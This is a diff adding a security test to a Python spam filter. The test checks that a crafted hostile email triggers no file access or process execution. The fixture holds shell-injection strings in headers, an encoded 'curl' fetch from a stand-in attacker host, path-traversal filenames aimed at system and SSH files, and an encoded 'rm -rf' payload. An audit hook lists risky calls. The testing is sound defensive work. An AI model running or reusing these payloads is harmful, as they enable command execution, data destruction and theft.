@@ -105,3 +105,93 @@ def test_eight_classifiers_and_two_trainers_lose_nothing(model, tmp_path, sample
     assert not [p.name for p in model.parent.iterdir() if p.name.endswith(".tmp")]
     info = json.loads(spamnb("info", "-m", str(model), "--json").stdout)
     assert info["messages"] == {"spam": 34, "ham": 34}
+
+
+# A message naming files, links, hosts and commands: every one must stay a token.
+HOSTILE = b"""From: "$(touch /tmp/spamnb-owned)" <x@evil.test>
+To: `id`@victim.test
+Subject: =?utf-8?b?JChjdXJsIGh0dHA6Ly9ldmlsLnRlc3Qvc2gpCg==?=
+Content-Type: multipart/mixed; boundary="b"
+
+--b
+Content-Type: text/html; charset=utf-8
+
+<img src="file:///etc/passwd"><a href="http://127.0.0.1:9/fetch-me">x</a>
+<link rel=stylesheet href="//evil.test/x.css"><iframe src="ftp://evil.test/x">
+<object data="\\\\evil.test\\share\\x.exe"></object> see ../../../../etc/shadow
+--b
+Content-Type: application/octet-stream; name="/etc/passwd"
+Content-Disposition: attachment; filename="../../.ssh/authorized_keys"
+Content-Transfer-Encoding: base64
+
+c2ggLWMgJ3JtIC1yZiB+Jwo=
+--b
+Content-Type: message/external-body; access-type=local-file; name="/etc/hostname"
+
+--b--
+"""
+
+AUDIT_SCRIPT = r"""
+import io, os, sys, json
+
+events = []
+watching = False
+library = tuple({os.path.dirname(os.__file__), sys.prefix, sys.base_prefix})
+RISKY = ("socket.", "subprocess.", "os.system", "os.exec", "os.posix_spawn", "os.spawn",
+         "os.fork", "urllib.", "http.", "ftplib.", "webbrowser.", "shutil.", "os.symlink",
+         "os.link", "os.remove", "os.rename", "os.chmod", "ctypes.", "os.startfile")
+
+def hook(event, args):
+    if not watching:
+        return
+    if event == "open":
+        path = args[0]
+        if isinstance(path, int):
+            events.append(("open fd", path))
+        elif not os.path.abspath(os.fsdecode(path)).startswith(library):
+            events.append(("open", os.fsdecode(path)))
+    elif event.startswith(RISKY):
+        events.append((event, repr(args)[:200]))
+
+sys.addaudithook(hook)
+import spamnb
+from spamnb import pipe
+from spamnb.store import load
+from spamnb.tokens import tokenize
+
+# Lazy imports read spamnb's own modules, which is no message's doing.
+library += (os.path.dirname(spamnb.__file__),)
+model_path, message_path = sys.argv[1], sys.argv[2]
+message = open(message_path, "rb").read()
+spam_filter = load(model_path)
+watching = True
+tokens = tokenize(message)
+spam_filter.score_tokens(spam_filter.tokenize([message]))
+watching = False
+# The pipe filter opens the model and its table, and nothing else.
+out = io.BytesIO()
+watching = True
+status = pipe.run(io.BytesIO(message), out, sys.stderr, model_path)
+watching = False
+print(json.dumps({"events": events, "status": status, "tokens": tokens}))
+"""
+
+
+def test_nothing_in_a_message_makes_spamnb_touch_the_system(model, tmp_path):
+    message_file = tmp_path / "hostile.eml"
+    message_file.write_bytes(HOSTILE)
+    done = subprocess.run(
+        [sys.executable, "-c", AUDIT_SCRIPT, str(model), str(message_file)],
+        capture_output=True,
+        check=False,
+        cwd=tmp_path,
+    )
+    assert done.returncode == 0, done.stderr.decode()
+    report = json.loads(done.stdout)
+    model_files = {str(model), str(model) + ".table"}
+    others = [e for e in report["events"] if not (e[0] == "open" and e[1] in model_files)]
+    assert others == []
+    assert report["status"] in (0, 1, 2)
+    # They are only tokens: the hosts and names show up as words, nothing more.
+    assert any("evil.test" in t for t in report["tokens"])
+    assert not (tmp_path / "spamnb-owned").exists() and not os.path.exists("/tmp/spamnb-owned")
